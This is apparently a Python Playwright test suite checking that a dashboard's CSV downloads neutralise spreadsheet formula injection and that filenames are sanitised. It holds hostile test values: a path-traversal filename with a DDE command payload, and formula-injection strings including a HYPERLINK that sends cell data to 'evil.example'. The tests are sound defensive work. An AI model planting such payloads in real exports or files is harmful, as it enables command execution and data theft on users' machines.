"""What is taken away does no harm: neither a table in a spreadsheet nor what a file is called."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Iterator
from contextlib import ExitStack
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import unquote

import pytest
from playwright.sync_api import Browser, Download, FilePayload, expect

from interhuman.answers.saved import dump
from tests import clips, examples
from tests.browser.conftest import open_saved_result
from tests.browser.dashboard import Dashboard
from tests.browser.person import Person
from tests.server import ANALYZE, Scripted, Server

HOSTILE_NAME = "../../=cmd|' /C calc'!A0 <b>.mp4"
FORMULAS = (
    "=cmd|' /C calc'!A0+1+1",
    '=HYPERLINK("http://evil.example/?"&A1;"1+1")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "said;=1+1",
    "said\t@1+1",
    'said"\n=1+1',
    " =1+1",
    "\uff1d1+1",
)
FILE_NAME = re.compile(r"\w[\w \-]*(\.interhuman)?\.(json|csv|vtt|srt|txt)")
TOLD_NAME = re.compile(r"attachment; (?:filename=\"(.*)\"|filename\*=utf-8''(.*))")


@pytest.fixture
def person(browser: Browser, dashboard: Dashboard) -> Iterator[Person]:
    """A person who has just opened the dashboard."""
    one = Person(browser, dashboard.url)
    yield one
    one.context.close()


def cells(data: bytes) -> Iterator[str]:
    """Yield every cell as spreadsheets set to any of the usual separators would cut it."""
    text = data.decode("utf-8-sig")
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            yield from row


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take the cell for a formula, or for more than one cell."""
    if cell.startswith("'"):
        return False
    start = unicodedata.normalize("NFKC", cell).lstrip("\"' ")[:1]
    return cell[:1] in {"\t", "\r", "\n"} or start in {"=", "+", "-", "@"}


def check_names(person: Person, download: Download) -> None:
    """Check what a file is called by the server, and by the browser."""
    said = person.dispositions[download.url]
    told = TOLD_NAME.fullmatch(said)
    assert told is not None, said
    assert FILE_NAME.fullmatch(told[1] or unquote(told[2])), said
    assert FILE_NAME.fullmatch(download.suggested_filename), download.suggested_filename


def tables(person: Person, folder: Path) -> list[bytes]:
    """Download everything, check the files' names, and return the tables."""
    downloads = person.download_all(folder)
    assert len(downloads) >= 10
    for download in downloads:
        check_names(person, download)
    found = [path.read_bytes() for path in sorted(folder.glob("*.csv"))]
    assert len(found) >= 6
    return found


def hostile_result() -> bytes:
    """Return a saved result in which every text from outside is a formula."""
    payload = {
        "signals": [examples.signal(text, 0.0, 5.0, text, text) for text in FORMULAS],
        "engagement_state": [{"state": text, "start": 0.0, "end": 9.0} for text in FORMULAS],
    }
    moment = datetime(2031, 4, 5, 6, 7, 8, tzinfo=UTC)
    return dump(examples.read(payload), recording=HOSTILE_NAME, saved_at=moment)


def test_a_hostile_result_is_taken_away_harmless(person: Person, tmp_path: Path) -> None:
    page = person.page
    saved: FilePayload = {"name": "x.json", "mimeType": "text/json", "buffer": hostile_result()}
    open_saved_result(page, saved)
    person.wait_for_result()
    expect(page.get_by_role("heading", name=HOSTILE_NAME)).to_be_visible()
    all_cells = [cell for table in tables(person, tmp_path) for cell in cells(table)]
    assert all(
        any(text in cell.replace("'", "") for cell in all_cells) for text in ("=1+1", "@1+1")
    )
    assert [cell for cell in all_cells if runs(cell)] == []


def test_a_recording_with_a_hostile_name_does_no_harm(person: Person, tmp_path: Path) -> None:
    recording = clips.recording(6.0, silences=((1.0, 4.0),))
    person.begin({"name": HOSTILE_NAME, "mimeType": "video/mp4", "buffer": recording})
    person.wait_for_result()
    heading = person.page.get_by_role("heading", name="=cmd|' /C calc'!A0 <b>.mp4")
    expect(heading).to_be_visible()
    all_cells = [cell for table in tables(person, tmp_path) for cell in cells(table)]
    assert [cell for cell in all_cells if runs(cell)] == []


def test_an_answer_with_a_hostile_id_is_taken_away_harmless(
    browser: Browser, tmp_path: Path
) -> None:
    hostile = {"X-Correlation-ID": HOSTILE_NAME}
    with Server() as server, ExitStack() as closing:
        server.script(ANALYZE, Scripted(body=b"<p>not JSON</p>", headers=hostile))
        environ = {"INTERHUMAN_BASE_URL": server.base_url, "INTERHUMAN_API_KEY": "ih_live_any"}
        running = Dashboard(tmp_path, environ)
        closing.callback(running.stop)
        person = Person(browser, running.url)
        closing.callback(person.context.close)
        recording = clips.recording(6.0, silences=((1.0, 4.0),))
        person.begin({"name": "talk.mp4", "mimeType": "video/mp4", "buffer": recording})
        person.page.get_by_role("button", name="Download the answer as it came").wait_for()
        (download,) = person.download_all(tmp_path)
        check_names(person, download)


@pytest.mark.parametrize("text", FORMULAS)
def test_the_check_would_find_a_formula(text: str) -> None:
    line = io.StringIO(newline="")
    csv.writer(line).writerow(["first", text])
    assert any(map(runs, cells(line.getvalue().encode("utf-8-sig"))))
